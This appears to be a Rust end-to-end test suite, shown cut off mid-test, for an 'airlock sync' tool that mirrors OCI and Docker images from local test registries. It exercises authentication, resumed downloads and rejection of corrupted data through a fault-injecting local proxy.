//! `airlock sync` against the real Distribution registry (`docker-registry` 2.8), started by
//! each test on 127.0.0.1 with its config in a temp dir; images built with umoci and pushed with
//! skopeo: a two-platform OCI index, plain OCI manifests, a Docker schema 2 image, two
//! repositories sharing layers.
//!
//! Two stand-ins run inside the tests, because no real counterpart can run here:
//! * [`Proxy`] — a small HTTP proxy in front of the registry that cuts a blob download after N
//!   bytes, flips a byte of a blob or of a manifest, answers the OCI 1.1 referrers API (which
//!   Distribution 2.8 lacks), and (in bearer mode) demands a bearer token the way a registry
//!   configured with `auth: token:` does;
//! * its token server, which hands out that token for the right basic credentials. Distribution
//!   verifies real tokens as JWTs signed by a certificate chain, which would need a PKI in the
//!   test; the client side of the flow (challenge, realm/service/scope, token, retry) is the same.

use std::io::{Read, Write};
use std::net::{Shutdown, TcpListener, TcpStream};
use std::path::Path;
use std::process::{Child, Command, Stdio};
use std::sync::atomic::{AtomicBool, Ordering};
use std::sync::{Arc, Mutex};

use airlock_e2e::*;

/// `airlock BASE` succeeds with `creds` given by `--creds` (with a warning that `ps` shows
/// it), by `--creds-file`, and by `AIRLOCK_REGISTRY_CREDS` (both without the warning).
fn creds_three_ways(d: &Path, base: &[&str], creds: &str) {
    let mut args = base.to_vec();
    args.extend(["--creds", creds]);
    airlock(d, &args).ok().says(&["`ps` shows it"]);
    std::fs::write(d.join("creds"), format!("{creds}\n")).unwrap();
    let mut args = base.to_vec();
    args.extend(["--creds-file", "creds"]);
    let r = airlock(d, &args).ok();
    assert!(!r.stderr.contains("`ps` shows it"), "{}", r.stderr);
    let out = Command::new(bin("airlock"))
        .args(base)
        .current_dir(d)
        .env("AIRLOCK_REGISTRY_CREDS", creds)
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// A Distribution registry on 127.0.0.1, killed on drop.
struct Registry {
    child: Child,
    port: u16,
}

impl Registry {
    /// `htpasswd`: `(user, password)` to protect it with basic auth.
    fn start(dir: &Path, name: &str, htpasswd: Option<(&str, &str)>) -> Registry {
        Self::start_with(dir, name, htpasswd, None)
    }

    /// `tls`: `(certificate chain PEM, key PEM)` to serve HTTPS.
    fn start_with(
        dir: &Path,
        name: &str,
        htpasswd: Option<(&str, &str)>,
        tls: Option<(&Path, &Path)>,
    ) -> Registry {
        let root = dir.join(name);
        std::fs::create_dir_all(&root).unwrap();
        let mut auth = String::new();
        if let Some((u, p)) = htpasswd {
            // bcrypt, as Distribution's htpasswd wants it: Python's crypt module (Debian's
            // python3 has it) or apache2-utils' htpasswd, whichever is here. Cost 4: the registry
            // checks the hash on every request.
            let script = "import crypt,sys; print(crypt.crypt(sys.argv[1], crypt.mksalt(crypt.METHOD_BLOWFISH, rounds=16)))";
            let candidates: [(&str, Vec<&str>); 3] = [
                ("/usr/bin/python3", vec!["-W", "ignore", "-c", script, p]),
                ("python3", vec!["-W", "ignore", "-c", script, p]),
                ("htpasswd", vec!["-nbB", "-C", "4", u, p]),
            ];
            let hash = candidates
                .iter()
                .find_map(|(prog, args)| {
                    let o = Command::new(prog).args(args).output().ok()?;
                    let out = String::from_utf8_lossy(&o.stdout).trim().to_string();
                    let h = out.rsplit(':').next().unwrap_or("").to_string();
                    (o.status.success() && h.starts_with("$2")).then_some(h)
                })
                .unwrap_or_default();
            assert!(
                hash.starts_with("$2"),
                "no bcrypt hasher: needs python3 with the crypt module, or htpasswd"
            );
            std::fs::write(root.join("htpasswd"), format!("{u}:{}", hash.trim())).unwrap();
            auth = format!(
                "auth:\n  htpasswd:\n    realm: test\n    path: {}\n",
                root.join("htpasswd").display()
            );
        }
        let tls = tls
            .map(|(c, k)| {
                format!(
                    "  tls:\n    certificate: {}\n    key: {}\n",
                    c.display(),
                    k.display()
                )
            })
            .unwrap_or_default();
        let config = format!(
            "version: 0.1\nlog:\n  level: error\nstorage:\n  filesystem:\n    rootdirectory: {}\n  delete:\n    enabled: true\nhttp:\n  addr: 127.0.0.1:0\n{tls}{auth}",
            root.join("data").display()
        );
        std::fs::write(root.join("config.yml"), config).unwrap();
        let child = Command::new("docker-registry")
            .args(["serve", root.join("config.yml").to_str().unwrap()])
            .stdout(Stdio::null())
            .stderr(std::fs::File::create(root.join("registry.log")).unwrap())
            .spawn()
            .expect("docker-registry (Debian package docker-registry) must be installed");
        // Told to bind port 0; Distribution does not report the port it got, /proc does.
        let port = listening_port(child.id());
        Registry { child, port }
    }

    fn host(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }
}

impl Drop for Registry {
    fn drop(&mut self) {
        let _ = self.child.kill();
        let _ = self.child.wait();
    }
}

/// Builds images with umoci and pushes them with skopeo to `host`:
/// * `acme/hello:amd` (OCI, linux/amd64: a 3 MB random layer `a`),
/// * `acme/hello:arm` (OCI, linux/arm64: layer `a` plus a small one),
/// * `acme/hello:multi` (OCI index of both, digests preserved),
/// * `acme/dock:v1` (Docker schema 2 of `amd`),
/// * `acme/dlist:v1` (Docker manifest list of both, converted to schema 2),
/// * `other/app:v1` (`arm` again in another repository: shares layers across repositories).
fn push_images(dir: &Path, host: &str, creds: Option<&str>) {
    let creds = creds
        .map(|c| format!("--dest-creds {c}"))
        .unwrap_or_default();
    sh(
        dir,
        &format!(
            r#"
mkdir -p src/a src/b
head -c 3000000 /dev/urandom > src/a/big.bin
echo arm > src/b/arm.txt
umoci init --layout L
umoci new --image L:amd
umoci insert --image L:amd src/a /a >/dev/null
umoci config --image L:amd --architecture amd64 --os linux >/dev/null
umoci new --image L:arm
umoci insert --image L:arm src/a /a >/dev/null
umoci insert --image L:arm src/b /b >/dev/null
umoci config --image L:arm --architecture arm64 --os linux >/dev/null
umoci gc --layout L
python3 - L <<'PY'
import json, hashlib, sys
L = sys.argv[1]
ix = json.load(open(f"{{L}}/index.json"))
by = {{m["annotations"]["org.opencontainers.image.ref.name"]: m for m in ix["manifests"]}}
ms = []
for t, arch in (("amd", "amd64"), ("arm", "arm64")):
    d = dict(by[t]); d.pop("annotations", None)
    d["platform"] = {{"architecture": arch, "os": "linux"}}
    ms.append(d)
body = json.dumps({{"schemaVersion": 2, "mediaType": "application/vnd.oci.image.index.v1+json", "manifests": ms}}).encode()
h = hashlib.sha256(body).hexdigest()
open(f"{{L}}/blobs/sha256/{{h}}", "wb").write(body)
ix["manifests"].append({{"mediaType": "application/vnd.oci.image.index.v1+json", "digest": "sha256:" + h, "size": len(body), "annotations": {{"org.opencontainers.image.ref.name": "multi"}}}})
json.dump(ix, open(f"{{L}}/index.json", "w"))
PY
C="skopeo copy -q --dest-tls-verify=false {creds}"
$C oci:L:amd docker://{host}/acme/hello:amd
$C oci:L:arm docker://{host}/acme/hello:arm
$C --all --preserve-digests oci:L:multi docker://{host}/acme/hello:multi
$C --format v2s2 oci:L:amd docker://{host}/acme/dock:v1
$C --all --format v2s2 oci:L:multi docker://{host}/acme/dlist:v1
$C oci:L:arm docker://{host}/other/app:v1
"#
        ),
    )
    .ok();
}

/// Digest of the raw manifest skopeo reads at `reference`.
fn raw_digest(dir: &Path, reference: &str, creds: &str) -> String {
    sh(
        dir,
        &format!("skopeo inspect --raw --tls-verify=false {creds} {reference} | sha256sum | cut -d' ' -f1"),
    )
    .ok()
    .stdout
    .trim()
    .to_string()
}

fn manifest(dir: &Path, images: &[(&str, Option<&str>)]) {
    let mut y = String::from(
        "apiVersion: airlock/v1\nkind: Bundle\nmetadata: {name: mirror, version: \"1.0.0\", channel: stable}\nspec:\n  images:\n",
    );
    for (r, p) in images {
        y.push_str(&format!("    - ref: {r}\n"));
        if let Some(p) = p {
            y.push_str(&format!("      platforms: [{p}]\n"));
        }
    }
    std::fs::write(dir.join("m.yaml"), y).unwrap();
}

fn keys(dir: &Path) {
    for k in ["root", "signer"] {
        airlock(dir, &["keys", "generate", "--name", k, "--out", "keys"]).ok();
    }
    airlock(
        dir,
        &[
            "trust",
            "init",
            "--root-key",
            "keys/root.key",
            "--signer",
            "keys/signer.pub",
            "--out",
            "root.json",
        ],
    )
    .ok();
}

fn images_by_ref(j: &serde_json::Value) -> std::collections::BTreeMap<String, serde_json::Value> {
    j["images"]
        .as_array()
        .unwrap()
        .iter()
        .map(|i| (i["reference"].as_str().unwrap().to_string(), i.clone()))
        .collect()
}

#[test]
fn sync_filters_platforms_dedups_layers_is_idempotent_and_reports_each_failure() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let reg = Registry::start(d, "reg", None);
    let h = reg.host();
    push_images(d, &h, None);
    let multi = format!("{h}/acme/hello:multi");
    manifest(
        d,
        &[
            (&multi, Some("linux/amd64")),
            (&format!("{h}/acme/dock:v1"), None),
            (&format!("{h}/acme/hello:arm"), None),
            (&format!("{h}/other/app:v1"), None),
            (&format!("{h}/acme/dlist:v1"), Some("linux/arm64")),
        ],
    );
    let sync = |extra: &[&str]| {
        let mut args = vec![
            "--json",
            "sync",
            "m.yaml",
            "--store",
            "store",
            "--insecure-registry",
            &h,
        ];
        args.extend_from_slice(extra);
        airlock(d, &args)
    };
    let j = sync(&[]).ok().json();
    // Every mirrored image was scanned from the store (umoci-built, clean).
    let scanned = j["scan"].as_array().unwrap();
    assert_eq!(scanned.len(), 5, "{j}");
    assert!(
        scanned
            .iter()
            .all(|s| s["files"].as_u64().unwrap() >= 1
                && s["findings"].as_array().unwrap().is_empty()),
        "{j}"
    );
    let by = images_by_ref(&j);
    assert_eq!(
        by[&multi]["platformsOmitted"],
        serde_json::json!(["linux/arm64"])
    );
    assert_eq!(
        by[&multi]["digest"].as_str().unwrap(),
        format!("sha256:{}", raw_digest(d, &format!("docker://{multi}"), "")),
        "the upstream index digest is kept"
    );
    assert_eq!(
        by[&format!("{h}/acme/dock:v1")]["mediaType"],
        "application/vnd.docker.distribution.manifest.v2+json"
    );
    let dlist = &by[&format!("{h}/acme/dlist:v1")];
    assert_eq!(
        dlist["mediaType"],
        "application/vnd.docker.distribution.manifest.list.v2+json"
    );
    assert_eq!(
        dlist["platformsOmitted"],
        serde_json::json!(["linux/amd64"])
    );
    // Unique config and layer blobs: layer a, layer b, amd config, arm config (the Docker
    // schema 2 copy keeps amd's config bytes and layer) — each downloaded once, though four
    // images in two repositories reference them.
    let unique: std::collections::BTreeSet<String> = sh(
        d,
        "for r in hello:amd hello:arm dock:v1 dlist:v1@arm64; do case $r in *@*) skopeo inspect --raw --tls-verify=false --override-arch arm64 docker://HOST/acme/${r%@*} >/dev/null; d=$(skopeo inspect --raw --tls-verify=false docker://HOST/acme/${r%@*} | python3 -c \"import json,sys; print([m['digest'] for m in json.load(sys.stdin)['manifests'] if m['platform']['architecture']=='arm64'][0])\"); skopeo inspect --raw --tls-verify=false docker://HOST/acme/dlist@$d;; *) skopeo inspect --raw --tls-verify=false docker://HOST/acme/$r;; esac; echo; done | python3 -c \"import json,sys\nfor l in sys.stdin:\n  l=l.strip()\n  if not l: continue\n  m=json.loads(l)\n  print(m['config']['digest'])\n  [print(x['digest']) for x in m['layers']]\"".replace("HOST", &h).as_str(),
    )
    .ok()
    .stdout
    .lines()
    .map(str::to_string)
    .collect();
    assert_eq!(
        j["blobsDownloaded"].as_u64().unwrap() as usize,
        unique.len(),
        "{j}"
    );
    // The arm64 image of the index was left out: its manifest is not in the store, but the
    // separately named hello:arm brought its blobs.
    let store_blobs = std::fs::read_dir(d.join("store/blobs/sha256"))
        .unwrap()
        .count();
    assert!(store_blobs >= unique.len() + 4, "{store_blobs}");
    // skopeo reads the store as an OCI layout.
    sh(
        d,
        &format!("skopeo inspect oci:store:{h}/acme/hello:arm >/dev/null"),
    )
    .ok();

    // One sync per store: while another process holds the lock (flock(1) here), a sync is
    // refused naming the holder; once it is gone (the kernel drops the lock), syncs go on.
    // (`-o`: the lock stays with flock itself, not with the sleep it runs.)
    std::fs::write(d.join("store/sync.lock"), "4242").unwrap();
    let mut holder = std::process::Command::new("flock")
        .args([
            "-o",
            d.join("store/sync.lock").to_str().unwrap(),
            "sleep",
            "20",
        ])
        .spawn()
        .unwrap();
    std::thread::sleep(std::time::Duration::from_millis(300));
    sync(&[]).refused().says(&["another sync (pid 4242)"]);
    holder.kill().unwrap();
    holder.wait().unwrap();

    // Second sync: nothing downloaded, no manifest body fetched.
    let j2 = sync(&[]).ok().json();
    assert_eq!(j2["blobsDownloaded"], 0, "{j2}");
    assert_eq!(j2["bytesDownloaded"], 0, "{j2}");
    assert_eq!(j2["manifestsFetched"], 0, "{j2}");

    // A missing tag fails that image only: the others are synced, the exit code is 1 unless
    // --keep-going.
    let missing = format!("{h}/acme/hello:nope");
    manifest(
        d,
        &[(&missing, None), (&format!("{h}/acme/hello:amd"), None)],
    );
    let r = sync(&[]).fails();
    let j3 = r.json();
    let by = images_by_ref(&j3);
    assert_eq!(by[&missing]["ok"], false);
    assert!(
        by[&missing]["error"].as_str().unwrap().contains("404"),
        "{j3}"
    );
    assert_eq!(by[&format!("{h}/acme/hello:amd")]["ok"], true);
    assert!(r.stderr.contains(&missing), "{}", r.stderr);
    sync(&["--keep-going"]).ok();

    // A platform filter that keeps nothing is an error naming what the index has.
    manifest(d, &[(&multi, Some("linux/amd46"))]);
    sync(&[])
        .fails()
        .says(&["linux/amd46", "linux/amd64, linux/arm64"]);

    // Pack resolves registry references from the store and carries provenance.
    keys(d);
    manifest(d, &[(&multi, Some("linux/amd64"))]);
    let p = airlock(
        d,
        &[
            "--json",
            "pack",
            "m.yaml",
            "--key",
            "keys/signer.key",
            "--out",
            "out",
            "--store",
            "store",
        ],
    )
    .ok()
    .json();
    let vol = p["volumes"][0]["path"].as_str().unwrap().to_string();
    let i = airlock(d, &["--json", "inspect", &vol]).ok().json();
    let a = &i["manifest"]["artifacts"][0];
    assert_eq!(a["name"], multi.as_str());
    assert_eq!(a["platformsOmitted"], serde_json::json!(["linux/arm64"]));
    assert_eq!(a["provenance"]["registry"], h.as_str());
    assert_eq!(a["provenance"]["source"], multi.as_str());
    assert_eq!(a["provenance"]["upstreamDigest"], a["digest"]);
    assert!(a["provenance"]["retrieved"]
        .as_str()
        .unwrap()
        .ends_with('Z'));
}

#[test]
fn round_trip_sync_pack_unpack_and_skopeo_copy_into_a_second_registry() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let src = Registry::start(d, "src", None);
    let dst = Registry::start(d, "dst", None);
    let (h, h2) = (src.host(), dst.host());
    push_images(d, &h, None);
    keys(d);
    let multi = format!("{h}/acme/hello:multi");
    let amd = format!("{h}/acme/hello:amd");
    manifest(d, &[(&multi, None), (&amd, None)]);
    // No sync beforehand: pack finds the store empty and syncs first.
    let p = Command::new(bin("airlock"))
        .args([
            "--json",
            "pack",
            "m.yaml",
            "--key",
            "keys/signer.key",
            "--out",
            "out",
            "--insecure-registry",
            &h,
        ])
        .current_dir(d)
        .env("AIRLOCK_STORE", d.join("store"))
        .output()
        .map(|o| {
            assert!(
                o.status.success(),
                "{}\n{}",
                String::from_utf8_lossy(&o.stdout),
                String::from_utf8_lossy(&o.stderr)
            );
            serde_json::from_slice::<serde_json::Value>(&o.stdout).unwrap()
        })
        .unwrap();
    assert!(d.join("store/images").read_dir().unwrap().count() == 2);
    let vol = p["volumes"][0]["path"].as_str().unwrap().to_string();
    airlock(d, &["unpack", "--trust", "root.json", &vol, "--out", "U"]).ok();
    for (r, to) in [(&multi, "mirror/hello:multi"), (&amd, "mirror/hello:amd")] {
        sh(
            d,
            &format!("skopeo copy -q --all --preserve-digests --dest-tls-verify=false oci:U:{r} docker://{h2}/{to}"),
        )
        .ok();
        assert_eq!(
            raw_digest(d, &format!("docker://{r}"), ""),
            raw_digest(d, &format!("docker://{h2}/{to}"), ""),
            "{r} keeps its manifest digest through sync, pack, unpack and skopeo copy"
        );
    }
}

#[test]
fn htpasswd_basic_auth_with_creds_flag_and_auth_file() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let reg = Registry::start(d, "reg", Some(("alice", "s3cr3t")));
    let h = reg.host();
    push_images(d, &h, Some("alice:s3cr3t"));
    manifest(d, &[(&format!("{h}/acme/hello:amd"), None)]);
    let base = [
        "sync",
        "m.yaml",
        "--store",
        "store",
        "--insecure-registry",
        &h,
    ];
    // Anonymous: refused, and the message says what to do.
    let mut args = base.to_vec();
    args.extend(["--authfile", "none.json"]);
    airlock(d, &args).fails().says(&["user name and password"]);
    let mut args = base.to_vec();
    args.extend(["--creds", "alice:wrong"]);
    airlock(d, &args).fails().says(&["refused"]);
    creds_three_ways(d, &base, "alice:s3cr3t");
    // containers auth.json through $REGISTRY_AUTH_FILE (base64 of alice:s3cr3t).
    std::fs::write(
        d.join("auth.json"),
        format!(r#"{{"auths":{{"{h}":{{"auth":"YWxpY2U6czNjcjN0"}}}}}}"#),
    )
    .unwrap();
    let out = Command::new(bin("airlock"))
        .args([
            "sync",
            "m.yaml",
            "--store",
            "store2",
            "--insecure-registry",
            &h,
        ])
        .current_dir(d)
        .env("REGISTRY_AUTH_FILE", d.join("auth.json"))
        .output()
        .unwrap();
    assert!(
        out.status.success(),
        "{}",
        String::from_utf8_lossy(&out.stderr)
    );
}

/// What the proxy does to the traffic it passes on.
#[derive(Default)]
struct Faults {
    /// Cut the first large blob response after this many body bytes.
    cut_after: Option<usize>,
    /// Flip one byte of the first large blob response.
    corrupt_blob: bool,
    /// Flip one byte of every manifest served for this tag.
    corrupt_manifest_tag: Option<String>,
    /// Demand `Authorization: Bearer tok-123`, issued by the token server for alice:s3cr3t.
    bearer: bool,
    /// Answer the OCI 1.1 referrers API (which Distribution 2.8 lacks) with this index.
    referrers: Option<String>,
    /// Answer this many blob GETs with 503 before passing them on.
    unavailable: usize,
}

struct Proxy {
    port: u16,
    log: Arc<Mutex<Vec<String>>>,
    token_log: Arc<Mutex<Vec<String>>>,
}

impl Proxy {
    fn start(upstream: u16, faults: Faults) -> Proxy {
        let l = TcpListener::bind("127.0.0.1:0").unwrap();
        let port = l.local_addr().unwrap().port();
        let tl = TcpListener::bind("127.0.0.1:0").unwrap();
        let token_port = tl.local_addr().unwrap().port();
        let log = Arc::new(Mutex::new(Vec::new()));
        let token_log = Arc::new(Mutex::new(Vec::new()));
        let faults = Arc::new(faults);
        let once = Arc::new(AtomicBool::new(false));
        {
            let token_log = token_log.clone();
            std::thread::spawn(move || {
                for c in tl.incoming().flatten() {
                    let (line, headers) = read_head(&c);
                    token_log.lock().unwrap().push(line.clone());
                    let ok = headers
                        .iter()
                        .any(|h| h.eq_ignore_ascii_case("authorization: Basic YWxpY2U6czNjcjN0"));
                    let mut c = c;
                    let body = if ok { r#"{"token":"tok-123"}"# } else { "{}" };
                    let status = if ok { "200 OK" } else { "401 Unauthorized" };
                    let _ = write!(
                        c,
                        "HTTP/1.1 {status}\r\nContent-Type: application/json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
                        body.len()
                    );
                }
            });
        }
        {
            let log = log.clone();
            std::thread::spawn(move || {
                for c in l.incoming().flatten() {
                    let (log, faults, once) = (log.clone(), faults.clone(), once.clone());
                    std::thread::spawn(move || {
                        handle(c, upstream, token_port, &log, &faults, &once);
                    });
                }
            });
        }
        Proxy {
            port,
            log,
            token_log,
        }
    }
    fn host(&self) -> String {
        format!("127.0.0.1:{}", self.port)
    }
}

/// Reads an HTTP head: the request or status line and the header lines. Reads byte by byte so
/// that no byte of the body is consumed.
fn read_head(mut s: &TcpStream) -> (String, Vec<String>) {
    let mut raw = Vec::new();
    let mut b = [0u8; 1];
    while !raw.ends_with(b"\r\n\r\n") {
        match s.read(&mut b) {
            Ok(1) => raw.push(b[0]),
            _ => break,
        }
    }
    let text = String::from_utf8_lossy(&raw).to_string();
    let mut lines = text.split("\r\n").filter(|l| !l.is_empty());
    let first = lines.next().unwrap_or("").to_string();
    (first, lines.map(str::to_string).collect())
}

fn handle(
    mut c: TcpStream,
    upstream: u16,
    token_port: u16,
    log: &Mutex<Vec<String>>,
    faults: &Faults,
    once: &AtomicBool,
) {
    let (line, headers) = read_head(&c);
    let range = headers
        .iter()
        .find(|h| h.to_ascii_lowercase().starts_with("range:"))
        .cloned()
        .unwrap_or_default();
    log.lock().unwrap().push(format!("{line} {range}"));
    let path = line.split_whitespace().nth(1).unwrap_or("/").to_string();
    if faults.bearer
        && !headers
            .iter()
            .any(|h| h.eq_ignore_ascii_case("authorization: Bearer tok-123"))
    {
        let repo = path
            .strip_prefix("/v2/")
            .and_then(|p| p.split("/manifests/").next())
            .and_then(|p| p.split("/blobs/").next())
            .unwrap_or("");
        let _ = write!(
            c,
            "HTTP/1.1 401 Unauthorized\r\nWWW-Authenticate: Bearer realm=\"http://127.0.0.1:{token_port}/token\",service=\"test-registry\",scope=\"repository:{repo}:pull\"\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
        );
        return;
    }
    if path.contains("/blobs/sha256:") && line.starts_with("GET ") {
        let mut log = log.lock().unwrap();
        let served = log.iter().filter(|l| l.starts_with("503 ")).count();
        if served < faults.unavailable {
            log.push(format!("503 {path}"));
            let _ = write!(
                c,
                "HTTP/1.1 503 Service Unavailable\r\nContent-Length: 0\r\nConnection: close\r\n\r\n"
            );
            return;
        }
    }
    if let (Some(body), true) = (&faults.referrers, path.contains("/referrers/")) {
        let _ = write!(
            c,
            "HTTP/1.1 200 OK\r\nContent-Type: application/vnd.oci.image.index.v1+json\r\nContent-Length: {}\r\nConnection: close\r\n\r\n{body}",
            body.len()
        );
        return;
    }
    let mut u = TcpStream::connect(("127.0.0.1", upstream)).unwrap();
    let mut head = format!("{line}\r\n");
    for h in &headers {
        let l = h.to_ascii_lowercase();
        if l.starts_with("connection:") || l.starts_with("authorization:") {
            continue;
        }
        head.push_str(h);
        head.push_str("\r\n");
    }
    head.push_str("Connection: close\r\n\r\n");
    u.write_all(head.as_bytes()).unwrap();
    let (status, rheaders) = read_head(&u);
    let len: usize = rheaders
        .iter()
        .find_map(|h| {
            h.to_ascii_lowercase()
                .strip_prefix("content-length:")
                .map(|v| v.trim().parse().unwrap_or(0))
        })
        .unwrap_or(0);
    let mut out = format!("{status}\r\n");
    for h in &rheaders {
        if !h.to_ascii_lowercase().starts_with("connection:") {
            out.push_str(h);
            out.push_str("\r\n");
        }
    }
    out.push_str("Connection: close\r\n\r\n");
    let _ = c.write_all(out.as_bytes());
    let is_get = line.starts_with("GET ");
    let big_blob = is_get && path.contains("/blobs/sha256:") && len > 1 << 20;
    let cut = big_blob && faults.cut_after.is_some() && !once.swap(true, Ordering::SeqCst);
    let corrupt = big_blob && faults.corrupt_blob && !once.swap(true, Ordering::SeqCst);
    let corrupt_manifest = is_get
        && faults
            .corrupt_manifest_tag
            .as_ref()
            .is_some_and(|t| path.ends_with(&format!("/manifests/{t}")));
    let mut body = Vec::new();
    let _ = u.read_to_end(&mut body);
    if cut {
        let n = faults.cut_after.unwrap().min(body.len());
        let _ = c.write_all(&body[..n]);
        let _ = c.flush();
        let _ = c.shutdown(Shutdown::Both);
        return;
    }
    if (corrupt || corrupt_manifest) && body.len() > 100 {
        let i = if corrupt_manifest { 20 } else { body.len() / 2 };
        body[i] ^= 0x20;
    }
    let _ = c.write_all(&body);
}

#[test]
fn bearer_token_flow_through_the_test_token_server() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let reg = Registry::start(d, "reg", None);
    push_images(d, &reg.host(), None);
    let proxy = Proxy::start(
        reg.port,
        Faults {
            bearer: true,
            ..Default::default()
        },
    );
    let h = proxy.host();
    manifest(d, &[(&format!("{h}/acme/hello:multi"), None)]);
    let base = [
        "sync",
        "m.yaml",
        "--store",
        "store",
        "--insecure-registry",
        &h,
    ];
    let mut args = base.to_vec();
    args.extend(["--authfile", "none.json"]);
    airlock(d, &args).fails().says(&["token server", "401"]);
    creds_three_ways(d, &base, "alice:s3cr3t");
    let tl = proxy.token_log.lock().unwrap().clone();
    assert!(
        tl.iter()
            .any(|l| l.contains("scope=repository%3Aacme%2Fhello%3Apull")
                && l.contains("service=test-registry")),
        "{tl:?}"
    );
}

#[test]
fn resume_after_a_cut_connection_and_damaged_bytes_never_stored() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let reg = Registry::start(d, "reg", None);
    push_images(d, &reg.host(), None);
    let amd = |h: &str| format!("{h}/acme/hello:amd");

    // Cut after 1 MiB: the retry asks only for the rest.
    let proxy = Proxy::start(
        reg.port,
        Faults {
            cut_after: Some(1 << 20),
            ..Default::default()
        },
    );
    let h = proxy.host();
    manifest(d, &[(&amd(&h), None)]);
    airlock(
        d,
        &["sync", "m.yaml", "--store", "s1", "--insecure-registry", &h],
    )
    .ok();
    let log = proxy.log.lock().unwrap().clone();
    let ranged: Vec<&String> = log
        .iter()
        .filter(|l| l.to_ascii_lowercase().contains("range: bytes="))
        .collect();
    assert_eq!(ranged.len(), 1, "{log:?}");
    let offset: u64 = ranged[0]
        .rsplit("bytes=")
        .next()
        .unwrap()
        .trim_end_matches('-')
        .parse()
        .unwrap();
    assert!(offset > 0 && offset <= 1 << 20, "{log:?}");
    sh(d, "test -z \"$(ls s1/partial)\"").ok();

    // Cut with no retries: the run fails but keeps the bytes; the next run resumes them.
    let proxy = Proxy::start(
        reg.port,
        Faults {
            cut_after: Some(1 << 20),
            ..Default::default()
        },
    );
    let h = proxy.host();
    manifest(d, &[(&amd(&h), None)]);
    let args = [
        "sync",
        "m.yaml",
        "--store",
        "s5",
        "--insecure-registry",
        &h,
        "--retries",
        "0",
    ];
    airlock(d, &args).fails();
    sh(d, "test \"$(ls s5/partial | wc -l)\" = 1").ok();
    airlock(d, &args).ok();
    let log = proxy.log.lock().unwrap().clone();
    assert!(
        log.iter()
            .any(|l| l.to_ascii_lowercase().contains("range: bytes=1048576-")),
        "{log:?}"
    );

    // 503s are retried with backoff.
    let proxy = Proxy::start(
        reg.port,
        Faults {
            unavailable: 3,
            ..Default::default()
        },
    );
    let h = proxy.host();
    manifest(d, &[(&amd(&h), None)]);
    airlock(
        d,
        &["sync", "m.yaml", "--store", "s6", "--insecure-registry", &h],
    )
    .ok()
    .says(&["503", "retrying"]);

    // A flipped byte: rejected, retried, and the store never holds the damaged blob.
    let proxy = Proxy::start(
        reg.port,
        Faults {
            corrupt_blob: true,
            ..Default::default()
        },
    );
    let h = proxy.host();
    manifest(d, &[(&amd(&h), None)]);
    let r = airlock(
        d,
        &["sync", "m.yaml", "--store", "s2", "--insecure-registry", &h],
    )
    .ok();
    assert!(r.stderr.contains("content hashes to"), "{}", r.stderr);
    for f in std::fs::read_dir(d.join("s2/blobs/sha256")).unwrap() {
        let f = f.unwrap();
        let hex = f.file_name().to_string_lossy().to_string();
        let sum = sh(d, &format!("sha256sum {}", f.path().display()))
            .ok()
            .stdout;
        assert!(sum.starts_with(&hex), "{hex} holds other bytes");
    }
    // With no retries the damaged blob fails the image, and nothing is recorded.
    let proxy = Proxy::start(
        reg.port,
        Faults {
            corrupt_blob: true,
            ..Default::default()
        },
    );
    let h = proxy.host();
    manifest(d, &[(&amd(&h), None)]);
    airlock(
        d,
        &[
            "sync",
            "m.yaml",
            "--store",
            "s3",
            "--insecure-registry",
            &h,
            "--retries",
            "0",
        ],
    )
    .fails()
    .says(&["content hashes to"]);
    assert_eq!(std::fs::read_dir(d.join("s3/images")).unwrap().count(), 0);

    // A manifest whose bytes do not match the registry's digest is refused.
    let proxy = Proxy::start(
        reg.port,
        Faults {
            corrupt_manifest_tag: Some("arm".into()),
            ..Default::default()
        },
    );
    let h = proxy.host();
    manifest(
        d,
        &[(&format!("{h}/acme/hello:arm"), None), (&amd(&h), None)],
    );
    let r = airlock(
        d,
        &[
            "--json",
            "sync",
            "m.yaml",
            "--store",
            "s4",
            "--insecure-registry",
            &h,
            "--retries",
            "1",
        ],
    )
    .fails();
    let by = images_by_ref(&r.json());
    assert_eq!(by[&format!("{h}/acme/hello:arm")]["ok"], false);
    assert!(
        by[&format!("{h}/acme/hello:arm")]["error"]
            .as_str()
            .unwrap()
            .contains("hashes to"),
        "{by:?}"
    );
    assert_eq!(by[&amd(&h)]["ok"], true);
}

#[test]
fn signatures_come_along_and_require_signature_refuses_unsigned() {
    let dir = tempfile::tempdir().unwrap();
    let d = dir.path();
    let reg = Registry::start(d, "reg", None);
    let h = reg.host();
    push_images(d, &h, None);
    // A cosign-style signature: any OCI object under the tag sha256-<hex>.sig.
    let amd = format!("{h}/acme/hello:amd");
    let digest = raw_digest(d, &format!("docker://{amd}"), "");
    sh(
        d,
        &format!("skopeo copy -q --dest-tls-verify=false oci:L:arm docker://{h}/acme/hello:sha256-{digest}.sig"),
    )
    .ok();
    manifest(d, &[(&amd, None), (&format!("{h}/acme/dock:v1"), None)]);
    let r = airlock(
        d,
        &[
            "--json",
            "sync",
            "m.yaml",
            "--store",
            "store",
            "--insecure-registry",
            &h,
            "--require-signature",
        ],
    )
    .fails();
    let by = images_by_ref(&r.json());
    assert_eq!(by[&amd]["ok"], true);
    assert_eq!(
        by[&amd]["signatures"][0]["tag"],
        format!("sha256-{digest}.sig").as_str()
    );
    assert!(by[&format!("{h}/acme/dock:v1")]["error"]
        .as_str()
        .unwrap()
        .contains("no signature"));
    // Signatures already in the store are not fetched again.
    manifest(d, &[(&amd, None)]);
    let again = airlock(
        d,
        &[
            "--json",
            "sync",
            "m.yaml",
            "--store",
            "store",
            "--insecure-registry",
            &h,
            "--require-signature",
        ],
    )
    .ok()
    .json();
    assert_eq!(again["manifestsFetched"], 0, "{again}");
    assert_eq!(again["blobsDownloaded"], 0, "{again}");
    // The signature travels in the bundle under its tag.
    keys(d);
    manifest(d, &[(&amd, None)]);
    let p = airlock(
        d,
        &[
            "--json",
            "pack",
            "m.yaml",
            "--key",
            "keys/signer.key",
            "--out",
            "out",
            "--store",
            "store",
        ],
    )
    .ok()
    .json();
